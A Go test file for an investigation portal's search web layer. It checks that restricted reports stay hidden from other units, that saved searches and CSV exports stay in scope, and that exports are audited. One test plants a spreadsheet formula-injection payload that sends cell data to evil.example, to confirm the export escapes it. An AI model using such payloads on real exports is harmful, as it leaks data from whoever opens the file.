package web

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/investigation-portal/portal/index"
	"github.com/investigation-portal/portal/internal/portal"
)

// recorder keeps the audit entries the server writes, whatever log is
// behind it.
type recorder struct {
	next Auditor
	mu   sync.Mutex
	all  []portal.AuditEntry
	fail bool
}

func (r *recorder) Append(ctx context.Context, e portal.AuditEntry) (portal.AuditEntry, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.fail {
		return e, portal.Errorf(portal.EINTERNAL, "audit log unavailable")
	}
	r.all = append(r.all, e)
	return r.next.Append(ctx, e)
}

func (r *recorder) last(action string) (portal.AuditEntry, bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	for i := len(r.all) - 1; i >= 0; i-- {
		if r.all[i].Action == action {
			return r.all[i], true
		}
	}
	return portal.AuditEntry{}, false
}

// withSynonyms gives the test portal the shipped synonym file.
func withSynonyms(t *testing.T, p *testPortal) {
	syn, err := index.LoadSynonyms("../../configs/synonyms.txt")
	if err != nil {
		t.Fatal(err)
	}
	p.Index.SetSynonyms(syn)
}

func record(p *testPortal) *recorder {
	r := &recorder{next: p.Server.Audit}
	p.Server.Audit = r
	return r
}

type apiResult struct {
	Total int
	Hits  []struct {
		ID         string
		Highlights map[string][]string
	}
	Facets       map[string][]index.FacetValue
	AlsoSearched []string `json:"also_searched"`
	Next         string
}

func searchAPI(t *testing.T, p *testPortal, tok, params string) apiResult {
	t.Helper()
	r := p.do("GET", "/api/v1/search?"+params, tok, nil)
	if r.Status != http.StatusOK {
		t.Fatalf("search %s: %d %s", params, r.Status, r.Body)
	}
	var res apiResult
	if err := json.Unmarshal([]byte(r.Body), &res); err != nil {
		t.Fatal(err)
	}
	return res
}

// leakFixture: a restricted SOIT-South report with words, a borough and a
// year nobody else has, beside open reports.
func leakFixture(p *testPortal) {
	secret := report("S1", "Restricted: the suspect wore a zebra-striped balaclava and has a lisp.")
	secret.Restricted, secret.Borough, secret.LocationType = true, "Sutton", "garage"
	secret.OccurredAt = time.Date(2021, 2, 3, 23, 0, 0, 0, time.UTC)
	secret.SuspectDescription = "Scar through the left eyebrow"
	open := report("O1", "A man with a lisp exposed himself near the station.")
	open2 := report("O2", "He wore a balaclava and followed her from the bus stop.")
	open2.Borough = "Croydon"
	p.addReports(secret, open, open2)
}

func TestRestrictedReportsDoNotLeakThroughSearch(t *testing.T) {
	p := newTestPortal(t)
	leakFixture(p)
	rec := record(p)
	olly, ivy := p.token("olly"), p.token("ivy")

	for _, q := range []string{"lisp", "balaclava", "zebra", `"zebra striped"`, "zeb*", "zebre~1", "eyebrow", "suspect:scar",
		"borough:sutton", "location:garage", "year:2021", "occurred:2021", "hour:23", "lisp OR zebra", "NOT station", ""} {
		params := "q=" + url.QueryEscape(q)
		res := searchAPI(t, p, olly, params)
		for _, h := range res.Hits {
			if h.ID == "S1" {
				t.Errorf("%q: the restricted report is a hit for another unit", q)
			}
		}
		n := 0
		for field, vals := range res.Facets {
			for _, v := range vals {
				if field == index.FieldBorough {
					n += v.Count
				}
				if v.Value == "Sutton" || v.Value == "garage" || v.Value == "2021" {
					t.Errorf("%q: facet %s shows the restricted report's %s", q, field, v.Value)
				}
			}
		}
		if n != res.Total {
			t.Errorf("%q: borough facets count %d, total %d", q, n, res.Total)
		}
		body := p.do("GET", "/api/v1/search?"+params, olly, nil).Body
		for _, secret := range []string{"zebra", "eyebrow", "S1", "Sutton"} {
			if strings.Contains(body, secret) && !strings.Contains(q, strings.ToLower(secret)[:3]) {
				t.Errorf("%q: the answer mentions %q: %s", q, secret, body)
			}
		}
		// The CSV export shows the same.
		csvBody := p.do("GET", "/api/v1/search/export?"+params, olly, nil)
		if csvBody.Status != http.StatusOK || strings.Contains(csvBody.Body, "S1") || strings.Contains(csvBody.Body, "zebra") {
			t.Errorf("%q: export leaked or failed: %d %s", q, csvBody.Status, csvBody.Body)
		}
	}
	// Counts: lisp matches O1 for olly, O1 and S1 for ivy.
	if res := searchAPI(t, p, olly, "q=lisp"); res.Total != 1 {
		t.Errorf("olly lisp total %d", res.Total)
	}
	res := searchAPI(t, p, ivy, "q=zebra")
	if res.Total != 1 || res.Hits[0].ID != "S1" || !strings.Contains(strings.Join(res.Hits[0].Highlights["narrative"], ""), "<mark>zebra</mark>") {
		t.Errorf("own unit: %+v", res)
	}
	// Through the browser page as well.
	b := p.browser()
	b.login("olly")
	page := b.request("GET", "/search?q=zebra+OR+lisp", nil)
	if page.Status != 200 || strings.Contains(page.Body, "S1") || strings.Contains(page.Body, "Sutton") || !strings.Contains(page.Body, `data-id="O1"`) {
		t.Errorf("page leaked or failed: %d", page.Status)
	}
	// Every search was audited with the ids shown.
	if e, ok := rec.last("search"); !ok || !strings.Contains(e.Detail, `q="zebra OR lisp"`) || !slices.Equal(e.Objects, []string{"report:O1"}) {
		t.Errorf("search audit: %+v", e)
	}
}

func TestSavedSearchAlertsStayInTheUnit(t *testing.T) {
	p := newTestPortal(t)
	withSynonyms(t, p)
	p.addReports(report("O1", "Male posed as a minicab driver."))
	b := p.browser()
	b.login("olly")
	tok := b.csrf("/search?q=taxi")
	r := b.request("POST", "/saved", url.Values{"_csrf": {tok}, "name": {"fake cabs"}, "params": {"q=taxi&borough=Lambeth"}})
	if r.Status != http.StatusSeeOther {
		t.Fatalf("save: %d %s", r.Status, r.Body)
	}
	home := b.request("GET", "/", nil)
	if home.Status != 200 || !strings.Contains(home.Body, "fake cabs") || strings.Contains(home.Body, `data-testid="new-total"`) {
		t.Fatalf("home before new reports: %d %s", home.Status, home.Body)
	}
	time.Sleep(5 * time.Millisecond)
	secret := report("S2", "Restricted: a taxi driver, South unit only.")
	secret.Restricted = true
	p.addReports(report("N1", "New report: the cab driver took a detour."), report("N2", "Unrelated: theft of a bicycle."), secret)
	home = b.request("GET", "/", nil)
	if !strings.Contains(home.Body, `<span class="badge" data-testid="new-total">1 new</span>`) {
		t.Fatalf("home after new reports should count N1 only (not S2, restricted to another unit): %s", home.Body)
	}
	// Opening the new ones shows them and marks them seen.
	var id string
	if i := strings.Index(home.Body, `data-testid="saved-search" data-id="`); i >= 0 {
		rest := home.Body[i+len(`data-testid="saved-search" data-id="`):]
		id = rest[:strings.IndexByte(rest, '"')]
	}
	r = b.request("GET", "/saved/"+id+"?new=1", nil)
	if r.Status != http.StatusSeeOther {
		t.Fatalf("open saved: %d", r.Status)
	}
	res := b.request("GET", r.Header.Get("Location"), nil)
	if !strings.Contains(res.Body, `data-id="N1"`) || strings.Contains(res.Body, `data-id="O1"`) || strings.Contains(res.Body, "S2") {
		t.Fatalf("new matches page: %s", res.Body)
	}
	home = b.request("GET", "/", nil)
	if strings.Contains(home.Body, `data-testid="new-total"`) {
		t.Fatalf("still new after viewing")
	}
	// Another user cannot open it.
	o := p.browser()
	o.login("ivy")
	if r := o.request("GET", "/saved/"+id, nil); r.Status != http.StatusNotFound {
		t.Fatalf("another user's saved search: %d", r.Status)
	}
}

func TestMalformedQueriesAre400WithAPosition(t *testing.T) {
	p := newTestPortal(t)
	p.addReports(report("R1", "He put his hand over her mouth."))
	tok := p.token("ivy")
	for _, tc := range []struct{ params, want string }{
		{"q=" + url.QueryEscape(`"hand mouth`), "position 1"},
		{"q=" + url.QueryEscape(`hand AND`), "position 6"},
		{"q=" + url.QueryEscape(`(hand OR mouth`), "never closed"},
		{"q=" + url.QueryEscape(`colour:red`), "unknown field"},
		{"q=" + url.QueryEscape(`hour:25`), "0..23"},
		{"q=hand&near=1,2", "near:"},
		{"q=hand&from=2024-13", "from:"},
		{"q=hand&hour_from=24", "hour_from"},
		{"q=hand&sort=random", "sort"},
		{"q=hand&after=garbage", "cursor"},
		{"q=hand&limit=-1", "limit"},
	} {
		r := p.do("GET", "/api/v1/search?"+tc.params, tok, nil)
		if r.Status != http.StatusBadRequest || !strings.Contains(r.Body, `"code":"invalid"`) || !strings.Contains(r.Body, tc.want) {
			t.Errorf("%s: %d %s, want 400 mentioning %q", tc.params, r.Status, r.Body, tc.want)
		}
	}
	b := p.browser()
	b.login("ivy")
	r := b.request("GET", "/search?q="+url.QueryEscape(`hand AND`), nil)
	if r.Status != http.StatusBadRequest || !strings.Contains(r.Body, `data-testid="search-error"`) || !strings.Contains(r.Body, "position 6") {
		t.Errorf("page: %d %s", r.Status, r.Body)
	}
}

func TestSearchPageFacetsFiltersAndHelp(t *testing.T) {
	p := newTestPortal(t)
	withSynonyms(t, p)
	a := report("A1", "Male posed as a minicab driver and touched her.")
	b1 := report("B1", "A taxi driver locked the doors.")
	b1.Borough, b1.OccurredAt = "Camden", time.Date(2023, 4, 1, 3, 0, 0, 0, time.UTC)
	c := report("C1", "The cab stopped near the station at noon.")
	c.Borough, c.OccurredAt, c.Lat, c.Lon = "Camden", time.Date(2024, 6, 1, 12, 0, 0, 0, time.UTC), ptr(51.54), ptr(-0.14)
	p.addReports(a, b1, c)
	br := p.browser()
	br.login("ivy")
	r := br.request("GET", "/search?q=taxi", nil)
	if r.Status != 200 || !strings.Contains(r.Body, `data-testid="also-searched"`) || !strings.Contains(r.Body, "minicab") {
		t.Fatalf("synonyms not shown: %s", r.Body)
	}
	for _, id := range []string{"A1", "B1", "C1"} {
		if !strings.Contains(r.Body, `data-id="`+id+`"`) {
			t.Errorf("taxi should find %s through synonyms", id)
		}
	}
	// The Camden facet link narrows to B1 and C1.
	i := strings.Index(r.Body, `data-value="Camden"`)
	j := strings.LastIndex(r.Body[:i], `href="`)
	link := strings.ReplaceAll(r.Body[j+6:j+6+strings.IndexByte(r.Body[j+6:], '"')], "&amp;", "&")
	r = br.request("GET", link, nil)
	if r.Status != 200 || strings.Contains(r.Body, `data-id="A1"`) || !strings.Contains(r.Body, `data-id="B1"`) {
		t.Fatalf("facet link %s: %s", link, r.Body)
	}
	// Form filters: hours wrapping midnight and a radius.
	r = br.request("GET", "/search?q=driver&hour_from=22&hour_to=4", nil)
	if !strings.Contains(r.Body, `data-id="A1"`) || !strings.Contains(r.Body, `data-id="B1"`) || strings.Contains(r.Body, `data-id="C1"`) {
		t.Errorf("hour filter 22..4: %s", r.Body)
	}
	r = br.request("GET", "/search?near=51.54,-0.14,1km", nil)
	if !strings.Contains(r.Body, `data-id="C1"`) || strings.Contains(r.Body, `data-id="A1"`) || !strings.Contains(r.Body, `data-testid="map"`) {
		t.Errorf("radius filter: %s", r.Body)
	}
	r = br.request("GET", "/search/help", nil)
	if r.Status != 200 || !strings.Contains(r.Body, "hour:22..04") || !strings.Contains(r.Body, "minicab, taxi") {
		t.Errorf("help page: %d", r.Status)
	}
}

func TestExportCSVEscapesFormulasAndIsAudited(t *testing.T) {
	p := newTestPortal(t)
	evil := report("E1", `=HYPERLINK("http://evil.example/?"&A1,"click") the suspect had a knife`)
	evil.SuspectDescription = "+44 tattoo; @handle; -minus"
	p.addReports(evil, report("E2", "He showed a knife at the bus stop."))
	rec := record(p)
	r := p.do("GET", "/api/v1/search/export?q=knife", p.token("ivy"), nil)
	if r.Status != 200 || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("export: %d %s", r.Status, r.Body)
	}
	rows, err := csv.NewReader(strings.NewReader(r.Body)).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("csv: %v %q", err, rows)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("cell %q could run as a formula", cell)
			}
		}
		if row[0] == "E1" && (row[8] != `'=HYPERLINK("http://evil.example/?"&A1,"click") the suspect had a knife` || row[9] != "'+44 tattoo; @handle; -minus") {
			t.Errorf("escaped row: %q", row)
		}
	}
	e, ok := rec.last("export")
	if !ok || len(e.Objects) != 2 || !strings.Contains(e.Detail, `q="knife"`) {
		t.Fatalf("export audit: %+v", e)
	}
	// When the audit log fails, nothing is exported.
	tok := p.token("ivy")
	rec.fail = true
	if r := p.do("GET", "/api/v1/search/export?q=knife", tok, nil); r.Status == 200 || strings.Contains(r.Body, "E1") {
		t.Fatalf("export without audit: %d %s", r.Status, r.Body)
	}
}

func TestAPISearchPagingWithCursor(t *testing.T) {
	p := newTestPortal(t)
	var rs []portal.Report
	for i := range 25 {
		r := report("P"+string(rune('A'+i)), "The suspect followed her home.")
		r.OccurredAt = r.OccurredAt.Add(time.Duration(i) * time.Hour)
		rs = append(rs, r)
	}
	p.addReports(rs...)
	tok := p.token("ivy")
	var seen []string
	params := "q=followed&sort=newest&limit=10"
	for range 5 {
		res := searchAPI(t, p, tok, params)
		for _, h := range res.Hits {
			seen = append(seen, h.ID)
		}
		if res.Next == "" {
			break
		}
		params = "q=followed&sort=newest&limit=10&after=" + url.QueryEscape(res.Next)
	}
	if len(seen) != 25 || seen[0] != "PY" || seen[24] != "PA" {
		t.Fatalf("paged: %v", seen)
	}
}
